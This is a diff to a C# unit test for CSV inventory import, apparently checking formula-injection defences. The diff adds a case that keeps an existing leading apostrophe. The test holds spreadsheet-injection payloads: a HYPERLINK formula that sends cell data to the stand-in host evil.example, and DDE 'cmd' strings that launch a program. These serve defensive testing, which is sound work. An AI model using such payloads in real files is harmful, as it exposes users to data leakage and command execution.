@@ -221,7 +221,7 @@ public class InventoryCsvTests
         var service = Service(app);
         var payloads = new[] { "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0" };
         var imported = await ImportAsync(app, manager, Rows(
-            Row("=1+2 shop", "Website or online shop", notes: payloads[0], category: "Names", purpose: payloads[1]),
+            Row("=1+2 shop", "Website or online shop", notes: payloads[0], category: "Names", purpose: payloads[1], deletion: "''@kept apostrophe"),
             Row("@Mailer", "Email marketing", category: "Email addresses", purpose: payloads[2], deletion: payloads[3])));
         Assert.True(imported.Imported, imported.Message);
         var before = await SnapshotAsync(app);
@@ -246,6 +246,9 @@ public class InventoryCsvTests
         Assert.All(again.Preview.Rows, r => Assert.Equal(ImportAction.Unchanged, r.Action));
         Assert.Equal(before, await SnapshotAsync(app));
         Assert.Contains(before, line => line.Contains(payloads[0], StringComparison.Ordinal));
+        // Text that already starts with an apostrophe before a formula character keeps it.
+        Assert.Contains(before, line => line.Contains("|'@kept apostrophe|", StringComparison.Ordinal));
+        Assert.Contains("''@kept apostrophe", cells);
     }
 
     [Fact]
